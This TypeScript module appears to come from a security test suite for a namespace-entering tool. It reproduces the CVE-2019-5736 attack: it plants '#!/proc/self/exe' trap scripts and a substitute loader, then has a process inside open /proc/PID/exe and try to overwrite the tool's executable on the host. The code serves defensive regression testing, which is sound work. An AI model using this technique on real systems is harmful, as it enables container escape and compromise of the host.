/** A1, CVE-2019-5736: the file of the entering tool is overwritten from inside. */
import { type ChildProcess, spawn } from 'node:child_process';
import { createHash, randomUUID } from 'node:crypto';
import { chownSync, readFileSync } from 'node:fs';
import { Readable, Writable } from 'node:stream';
import { scratch } from '../../support/enter.ts';
import { ExpectText } from '../../support/expect-text.ts';
import { defaultEnv } from '../../support/launch.ts';
import { killAll, processesWith } from '../../support/processes.ts';
import { program } from '../../support/programs.ts';
import type { Attack, Observation } from './attack.ts';
import { type AttackTarget, put } from './targets.ts';
import type { Tool, Way } from './tools.ts';

/** Where a program for another machine's C library looks for its loader. */
const loaders = ['/lib64/ld-linux-x86-64.so.2', '/lib/ld-linux-aarch64.so.1'];

/**
 * The kernel executes the tool itself, with one word and the path of the trap: tsenter ends with a message before it could seal
 * itself, or executes the trap again, as its helper does with the last word. nsenter needs none of them, because its loader is the
 * attacker's.
 */
const traps = [
  { path: '/bin/trap', word: '-u/no/such/file', times: 25 },
  { path: '/bin/again', word: '-w/', times: 2 },
  { path: '/bin/other', word: '--', times: 2 },
] as const;

function setTraps(target: AttackTarget): void {
  put(target, '/grab', readFileSync(program('grab')));
  for (const loader of loaders) put(target, loader, readFileSync(program('stay')));
  for (const { path, word } of traps) put(target, path, `#!/proc/self/exe ${word}\n`);
}

function hashes(files: readonly string[]): string {
  return files.map((file) => createHash('sha256').update(readFileSync(file)).digest('hex')).join();
}

/** A process inside that grabs executables; what it says. */
async function startGrabbing(
  target: AttackTarget,
  words: readonly string[],
  uid?: number,
): Promise<{ readonly said: ExpectText; stop(): Promise<void> }> {
  const child = target.start(['/grab', ...words], uid);
  const said = new ExpectText(`grab ${words.join(' ')}`);
  const ended = follow(child, said);
  await said.waitFor('ready\n', { timeout: 10_000 });
  return {
    said,
    stop: async () => {
      if (child.stdin instanceof Writable) child.stdin.end();
      await ended;
    },
  };
}

function follow(child: ChildProcess, said: ExpectText): Promise<void> {
  for (const stream of [child.stdout, child.stderr])
    if (stream instanceof Readable) stream.on('data', (part: Buffer) => said.add(part.toString()));
  return new Promise((resolve) => {
    child.once('close', () => {
      said.end();
      resolve();
    });
  });
}

/** For a tool that executes itself for ever and is refused, and for what may be had after a first failure. */
const DEADLINE = 1500;
const MORE = 400;
/** For what a process inside says of a tool that has ended. */
const MOMENT = 20;

const caught = /^(wrote|E\w+)\n/m;

/** Starts the tool until its executable was opened or refused; what it says. */
async function lure(tool: Tool, target: AttackTarget, way: Way, said: ExpectText): Promise<string> {
  let message = '';
  for (const trap of traps.flatMap(({ path, times }) => Array.from({ length: times }, () => path))) {
    const id = randomUUID();
    const [file = '', ...words] = tool.words(target, way, [trap]);
    const env = { ...defaultEnv, TSENTER_TEST_ATTACK: id };
    const child = spawn(file, words, {
      cwd: '/',
      env,
      stdio: ['ignore', 'ignore', 'pipe'],
      ...target.caller,
    });
    child.stderr.on('data', (part: Buffer) => {
      message = part.toString();
    });
    const ended = new Promise<void>((resolve) => {
      child.once('close', () => resolve());
    });
    try {
      await Promise.race([comes(said, caught, DEADLINE), ended.then(() => comes(said, caught, MOMENT))]);
      if (caught.test(said.text)) await comes(said, 'wrote\n', MORE);
      if (child.exitCode === null && child.signalCode === null) return message;
    } finally {
      killAll(() => processesWith(`TSENTER_TEST_ATTACK=${id}`));
      child.kill('SIGKILL');
      await ended;
    }
    if (caught.test(said.text)) return message;
  }
  return message;
}

async function comes(said: ExpectText, what: RegExp | string, timeout: number): Promise<void> {
  const there = typeof what === 'string' ? said.text.includes(what) : what.test(said.text);
  if (!there) await said.waitFor(what, { timeout }).catch(() => undefined);
}

async function attack(tool: Tool, target: AttackTarget, way: Way): Promise<Observation> {
  using files = scratch();
  const mark = `copy-of-a-test-${randomUUID()}`;
  const copy = tool.copy(files.path, mark);
  // It belongs to who calls it; root needs no change.
  const { uid, gid } = target.caller;
  if (uid !== undefined && gid !== undefined) for (const file of copy.files) chownSync(file, uid, gid);
  setTraps(target);
  const before = hashes(copy.files);
  const socket = `/tmp/grab-${randomUUID()}`;
  // With CAP_SYS_PTRACE over the processes of the host nothing of them is out of reach.
  const how = target.kind === 'shared' ? 'write-untraced' : 'write';
  const writer = await startGrabbing(target, [how, socket, mark], uid === undefined ? 0 : undefined);
  // A process of the same user may look at /proc/PID/exe, and hands it to one that the file belongs to.
  const opener =
    uid === undefined && way.uid !== undefined
      ? await startGrabbing(target, ['open', socket, mark], way.uid)
      : undefined;
  let message = '';
  try {
    message = await lure(copy.tool, target, way, writer.said);
  } finally {
    await opener?.stop();
    await writer.stop();
  }
  if (hashes(copy.files) !== before) return { succeeded: true, seen: 'its file was overwritten' };
  const errors = [...new Set(writer.said.text.match(/^E\w+$/gm) ?? [])];
  if (errors.length > 0) return { succeeded: false, seen: `opened for writing: ${errors.join(', ')}` };
  if (writer.said.text.includes('refused\n')) return { succeeded: false, seen: '/proc/PID/exe: EACCES' };
  return { succeeded: false, seen: `never seen inside: ${message.split('\n')[0]}` };
}

export function overwrite(way: Way): Attack {
  const ids = way.uid === undefined ? [] : [`-S ${way.uid} -G ${way.uid}`];
  const words = [...(way.words ?? ['-a']), ...ids, ...(way.pty ? ['--pty'] : [])].join(' ');
  return {
    name: `overwrite the tool, ${words}`,
    sentence:
      'What is executed is a script that begins with `#!/proc/self/exe`: the kernel executes the tool itself, ' +
      'and a process inside opens /proc/PID/exe, kills it, and opens its file for writing (CVE-2019-5736).',
    run: (tool, target) => attack(tool, target, way),
  };
}
